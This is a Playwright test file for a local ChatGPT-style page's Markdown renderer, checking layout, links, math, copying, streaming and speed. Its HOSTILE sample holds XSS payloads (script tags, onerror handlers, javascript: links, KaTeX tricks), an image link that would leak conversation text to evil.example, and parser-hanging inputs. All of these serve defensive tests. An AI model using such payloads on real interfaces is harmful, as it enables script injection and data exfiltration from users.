"""How the local ChatGPT's page draws what a model says, in a real Chromium."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

import kit
from kit.demo import make_plugin
from kit.web.page import LocalChatGPT

pytest.importorskip("playwright")
from lab import browser_program, browsing
from pagetabs import Tab
from playwright.sync_api import Browser, expect

pytestmark = pytest.mark.skipif(browser_program() is None, reason="no Chromium: apt-get install chromium")

ANSWER = r"""## Trains on *Friday*

The fastest takes **4 h 5 min**, see [the timetable](https://example.com/a?b=1&c=2) or https://example.com/plain.

| From | To | Leaves | Arrives | Price | Operator | Remarks |
|:-----|:---|:------:|--------:|------:|----------|---------|
| Munich | Hamburg | 08:15 | 12:20 | 59,90 € | Deutsche Bahn | with a change in Kassel-Wilhelmshöhe |
| Munich | Berlin | 09:00 | 13:05 | 49,90 € | FlixTrain | direct, with bicycles |

```python
def price(distance: float, *, half: bool = False) -> float:
    '''In euros.'''
    return round(distance * 0.18 * (0.5 if half else 1), 2)  # of the second class
```

- [x] look for a train
- [ ] book it
    1. the `seat`
    2. the ticket

The mean is \(\bar x = \frac{1}{n}\sum_{i=1}^n x_i\), it costs $5 and not $10, and

$$\sigma = \sqrt{\frac{1}{n-1}\sum_{i=1}^n (x_i - \bar x)^2}$$

القطار الأسرع يستغرق `4:05` ساعات، انظر الجدول أعلاه.

1. أولاً ميونخ
2. ثانياً هامبورغ

> Said by the operator,
> in two lines.

See [the rules][rules].

[rules]: https://example.com/rules
"""
HOSTILE = r"""<script>window.ran=1</script><img src=x onerror="window.ran=1"> [a](javascript:window.ran=1) [b](data:text/html,x)
![told](https://evil.example/?what=was-said) [c](/api/state) <a href="https://evil.example">d</a> [https://bank.example](https://evil.example/e)

$\href{javascript:window.ran=1}{x} \includegraphics{https://evil.example/i.png} \rule{9999em}{9999em}$ $\kern{-9999em}x$

```"><script>window.ran=1</script>
</code></pre><script>window.ran=1</script>
```

| a<img src=x onerror=window.ran=1> |
|---|
| [x](vbscript:x) |
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsing() as running:
        yield running


@pytest.fixture(scope="module")
def local() -> Iterator[LocalChatGPT]:
    with kit.serve(make_plugin()) as server, kit.chatgpt(server) as running:
        yield running


def opened(browser: Browser, local: LocalChatGPT, width: int = 1100, **options: Any) -> Tab:
    context = browser.new_context(
        viewport={"width": width, "height": 900}, permissions=["clipboard-read", "clipboard-write"], **options
    )
    return Tab(context.new_page(), local.url)


def say(tab: Tab, local: LocalChatGPT, *answers: str) -> None:
    """Opens the chat anew, after the model has said this in it."""
    log = local._state.conversation(tab.page.url.partition("#")[2]).log
    for answer in answers:
        log.record("user", text="Which train?", plugins=[])
        log.record("delta", text=answer)
        log.record("done", model="a model", spent="", seconds=1.5, sequence="", sequence_text="")
    tab.page.reload()
    expect(tab.page.locator(".after")).to_have_count(len(answers))


@pytest.mark.parametrize(("scheme", "width"), [("light", 1100), ("dark", 380)])
def test_markdown_as_people_expect_it(browser: Browser, local: LocalChatGPT, scheme: Any, width: int) -> None:
    tab = opened(browser, local, width, color_scheme=scheme)
    say(tab, local, ANSWER)
    answer = tab.page.locator(".answer")
    assert tab.page.evaluate("document.documentElement.scrollWidth") <= width
    table = answer.get_by_role("group", name="Table")
    scrolls = table.evaluate("it => it.scrollWidth > it.clientWidth")
    assert scrolls is (width == 380), "in its own box, where it has no room"
    assert table.locator("td.right").first.evaluate("it => getComputedStyle(it).textAlign") == "right"
    links = answer.locator("a").evaluate_all("all => all.map(it => [it.href, it.target, it.rel])")
    assert [link[0] for link in links] == [
        "https://example.com/a?b=1&c=2",
        "https://example.com/plain",
        "https://example.com/rules",
    ]
    assert {tuple(link[1:]) for link in links} == {("_blank", "noopener noreferrer")}
    boxes = answer.get_by_role("checkbox")
    assert boxes.evaluate_all("all => all.map(it => [it.checked, it.disabled])") == [
        [True, True],
        [False, True],
    ]
    expect(answer.get_by_role("checkbox", name="look for a train")).to_be_checked()
    assert answer.locator("math").count() == 2
    assert answer.locator("math mfrac").count() == 2
    expect(answer).to_contain_text("it costs $5 and not $10")
    assert answer.locator("code .hljs-keyword").all_inner_texts()[0] == "def"
    directions = answer.locator("p, ol").evaluate_all(
        "all => all.filter(it => /[ء-ي]/.test(it.textContent)).map(it => getComputedStyle(it).direction)"
    )
    assert directions == ["rtl", "rtl"]
    tab.picture(f"answer-{scheme}-{width}")
    assert tab.findings() == []
    answer.get_by_role("button", name="Copy code").click()
    expect(answer.get_by_role("button", name="Copied")).to_be_focused()
    assert tab.page.evaluate("navigator.clipboard.readText()").startswith("def price(distance: float")
    tab.page.get_by_role("button", name="Copy answer").click()
    expect(tab.page.locator(".after")).to_contain_text("Copied")
    assert tab.page.evaluate("navigator.clipboard.readText()") == ANSWER
    assert tab.slips == []
    tab.page.context.close()


def test_a_hostile_answer_runs_nothing_and_asks_nobody(browser: Browser, local: LocalChatGPT) -> None:
    tab = opened(browser, local)
    urls: list[str] = []
    told: list[str] = []
    tab.page.on("request", lambda request: urls.append(request.url))
    tab.page.on("console", lambda message: told.append(message.text))
    say(tab, local, HOSTILE)
    answer = tab.page.locator(".answer")
    assert tab.page.evaluate("window.ran") is None
    assert answer.locator("script, img, iframe, object, [onerror], [style*=url]").count() == 0
    links = answer.locator("a").evaluate_all("all => all.map(it => [it.textContent, it.title])")
    assert links == [
        ["told", "https://evil.example/?what=was-said"],
        ["https://evil.example", "https://evil.example"],
        ["https://bank.example", "https://evil.example/e"],  # where it leads is shown, whatever it says
    ]
    assert not [url for url in urls if "evil" in url]
    assert not [text for text in told if "Content Security Policy" in text]
    assert answer.bounding_box()["height"] < 2_000  # type: ignore[index]
    tab.picture("hostile-answer")
    tab.page.context.close()


def test_an_answer_that_comes_in_pieces_is_drawn_as_the_whole_and_in_time(
    browser: Browser, local: LocalChatGPT
) -> None:
    tab = opened(browser, local)
    made = tab.page.evaluate(
        """async ([text, words]) => {
            const { Markdown } = await import("./static/markdown.js");
            const html = (node) => node.innerHTML.replace(/task-item-\\d+/g, "task");
            const drawn = (...pieces) => {
                const node = document.createElement("div");
                const one = new Markdown(node);
                for (const piece of pieces) { one.add(piece); one.write(false); }
                one.end(pieces.join(""));
                return html(node);
            };
            const whole = drawn(text);
            const wrong = [];
            for (let at = 1; at < text.length; at += 7) if (drawn(text.slice(0, at), text.slice(at)) !== whole) wrong.push(at);
            if (drawn(...text) !== whole) wrong.push("each");
            const node = document.createElement("div");
            document.getElementById("log").append(node);
            const one = new Markdown(node);
            const began = performance.now();
            for (let at = 0; at < words.length; at += 50) { one.add(words.slice(at, at + 50)); one.draw(); node.offsetHeight; }
            one.end(words);
            node.offsetHeight;
            return [wrong, Math.round(performance.now() - began)];
        }""",
        [
            ANSWER + "\n1. a\n\n2. b\n\n\n- c\n\n  d\n\n      code\n\n- [ ] e\n",
            (ANSWER.replace("[rules]: ", "") + "\n\n") * 40,
        ],
    )
    assert made[0] == []
    assert made[1] < 2_000, "milliseconds for 5,000 words"
    tab.page.context.close()


def test_a_text_that_hangs_others_is_drawn(browser: Browser, local: LocalChatGPT) -> None:
    runs = ["`" * n + "x" for n in range(1200)]
    texts = [
        "".join(runs),
        "> " * 5000 + "a",
        "- " * 5000 + "a",
        "\\(" * 8_000,
        "$a" * 8_000,
        "$" + "{" * 5_000 + "$",
    ]
    texts += ["[a](" * 10_000, "*a **a " * 8_000, "\n".join(" " * 2 * n + "- a" for n in range(300))]
    texts += [r"$\def\a{\a\a}\a$", "```python\n" + "'" * 19_000 + "\n```"]
    tab = opened(browser, local)
    spent = tab.page.evaluate(
        """async (texts) => {
            const { Markdown } = await import("./static/markdown.js");
            return texts.map((text) => {
                const began = performance.now();
                new Markdown(document.createElement("div")).end(text);
                return Math.round(performance.now() - began);
            });
        }""",
        texts,
    )
    assert max(spent) < 3_000, spent
    tab.page.context.close()
